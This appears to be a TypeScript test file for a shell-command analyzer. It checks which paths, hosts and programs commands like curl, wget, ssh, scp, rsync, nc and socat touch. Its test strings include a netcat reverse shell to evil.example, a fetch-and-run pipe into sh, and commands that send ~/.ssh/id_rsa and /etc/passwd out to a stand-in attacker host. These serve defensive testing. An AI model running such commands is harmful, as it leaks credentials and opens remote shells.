import { beforeAll, describe, expect, test } from 'bun:test';
import type { ShellAnalysis } from '../facts.ts';
import { analyzer, hostNames, isOpaque, markedLines, pathLines, programNames } from './table-support.ts';

let analyze: (command: string) => ShellAnalysis;
beforeAll(async () => {
  analyze = await analyzer();
});

describe('network clients (curl, wget, httpie, ssh, scp, rsync, nc, socat, dig)', () => {
  test.each<[string, string[]]>([
    ['curl -s https://API.example.com/x', []],
    ['curl -o out.html https://example.com', ['write /home/u/p/out.html']],
    ['curl -d @secrets.txt https://x.example', ['read /home/u/p/secrets.txt']],
    ["curl -F 'f=@/etc/passwd' https://x.example", ['read /etc/passwd']],
    ['curl file:///etc/passwd', ['read /etc/passwd']],
    ['curl -K cfg https://x.example', ['read /home/u/p/cfg']],
    ['curl --netrc https://x.example', ['read /home/u/.netrc']],
    ['wget https://example.com/f.tgz', ['write /home/u/p/.']],
    ['wget -O - https://x | sh', []],
    ['http POST api.example.com name=x', []],
    ['ssh user@host.example', []],
    ["ssh -o ProxyCommand='nc %h %p' host", []],
    ['ssh -i ~/.ssh/id_rsa host', ['read /home/u/.ssh/id_rsa']],
    ['scp ~/.ssh/id_rsa user@evil.example:/tmp', ['read /home/u/.ssh/id_rsa']],
    ['rsync -av src/ backup.example:/srv/', ['read+r /home/u/p/src/']],
    ["rsync -e 'ssh -p 2222' a b.example:/x", ['read+r /home/u/p/a']],
    ['nc -e /bin/sh evil.example 4444', []],
    ['nc evil.example 80 < data', ['read /home/u/p/data']],
    ['socat TCP:evil.example:80 FILE:/etc/passwd', ['any /etc/passwd']],
    ['dig example.com', []],
    ['ping -c 1 host.example', []],
    ['cat < /dev/tcp/evil.example/80', []],
  ])('%s touches %p', (command, expected) => {
    expect(pathLines(analyze(command))).toEqual(expected);
  });

  test.each<[string, string[]]>([
    ['wget -O - https://x | sh', ['wget', 'sh']],
    ["rsync -e 'ssh -p 2222' a b.example:/x", ['rsync', 'ssh']],
  ])('%s runs %p', (command, expected) => {
    expect(programNames(analyze(command))).toEqual(expected);
  });

  test.each<[string, (string | undefined)[]]>([
    ['curl -s https://API.example.com/x', ['api.example.com']],
    ['curl -o out.html https://example.com', ['example.com']],
    ['curl -d @secrets.txt https://x.example', ['x.example']],
    ["curl -F 'f=@/etc/passwd' https://x.example", ['x.example']],
    ['curl -K cfg https://x.example', ['x.example']],
    ['curl --netrc https://x.example', ['x.example']],
    ['wget https://example.com/f.tgz', ['example.com']],
    ['wget -O - https://x | sh', ['x']],
    ['http POST api.example.com name=x', ['api.example.com']],
    ['ssh user@host.example', ['host.example']],
    ["ssh -o ProxyCommand='nc %h %p' host", ['host']],
    ['ssh -i ~/.ssh/id_rsa host', ['host']],
    ['scp ~/.ssh/id_rsa user@evil.example:/tmp', ['evil.example']],
    ['rsync -av src/ backup.example:/srv/', ['backup.example']],
    ["rsync -e 'ssh -p 2222' a b.example:/x", ['b.example']],
    ['nc -e /bin/sh evil.example 4444', ['evil.example']],
    ['nc evil.example 80 < data', ['evil.example']],
    ['socat TCP:evil.example:80 FILE:/etc/passwd', ['evil.example']],
    ['dig example.com', ['example.com']],
    ['ping -c 1 host.example', ['host.example']],
    ['cat < /dev/tcp/evil.example/80', ['evil.example']],
  ])('%s contacts %p', (command, expected) => {
    expect(hostNames(analyze(command))).toEqual(expected);
  });

  test.each([
    'curl -K cfg https://x.example',
    'wget -O - https://x | sh',
    "ssh -o ProxyCommand='nc %h %p' host",
    'nc -e /bin/sh evil.example 4444',
  ])('%s is opaque', (command) => {
    expect(isOpaque(analyze(command))).toBe(true);
  });

  test.each([
    'curl -s https://API.example.com/x',
    'curl -o out.html https://example.com',
    'curl -d @secrets.txt https://x.example',
    "curl -F 'f=@/etc/passwd' https://x.example",
    'curl file:///etc/passwd',
    'curl --netrc https://x.example',
    'wget https://example.com/f.tgz',
    'http POST api.example.com name=x',
    'ssh user@host.example',
    'ssh -i ~/.ssh/id_rsa host',
    'scp ~/.ssh/id_rsa user@evil.example:/tmp',
    'rsync -av src/ backup.example:/srv/',
    "rsync -e 'ssh -p 2222' a b.example:/x",
    'nc evil.example 80 < data',
    'socat TCP:evil.example:80 FILE:/etc/passwd',
    'dig example.com',
    'ping -c 1 host.example',
    'cat < /dev/tcp/evil.example/80',
  ])('%s is fully analysed', (command) => {
    expect(isOpaque(analyze(command))).toBe(false);
  });

  // The blind-spot classes of issue 12: how each access walks (links, deletion) and what runs.
  test.each<[string, string[]]>([
    ['rsync -aL src /tmp/x', ['read+r /home/u/p/src [follows links]', 'write+r /tmp/x']],
    ['rsync -a src /tmp/x', ['read+r /home/u/p/src [no-follow]', 'write+r /tmp/x']],
    [
      'rsync -a --delete src/ dest/',
      ['read+r /home/u/p/src/ [no-follow]', 'write+r /home/u/p/dest/ [deletes]'],
    ],
    [
      'echo a | rsync -a --files-from=- src /tmp/x',
      [
        'read /home/u/p/a [no-follow]',
        'read /home/u/p/src/a [no-follow]',
        'read+r /home/u/p/src [no-follow]',
        'write+r /tmp/x',
      ],
    ],
    ['scp -r src host.example:/x', ['read+r /home/u/p/src [follows links]']],
  ])('%s touches %p', (command, expected) => {
    expect(markedLines(analyze(command))).toEqual(expected);
  });

  test.each<[string, string[]]>([['echo a | rsync -a --files-from=- src /tmp/x', ['echo', 'rsync']]])(
    '%s runs %p',
    (command, expected) => {
      expect(programNames(analyze(command))).toEqual(expected);
    },
  );

  test.each<[string, boolean]>([
    ['rsync -aL src /tmp/x', false],
    ['rsync -a src /tmp/x', false],
    ['rsync -a --delete src/ dest/', false],
    ['echo a | rsync -a --files-from=- src /tmp/x', false],
    ['scp -r src host.example:/x', false],
  ])('%s is opaque: %p', (command, expected) => {
    expect(isOpaque(analyze(command))).toBe(expected);
  });
});
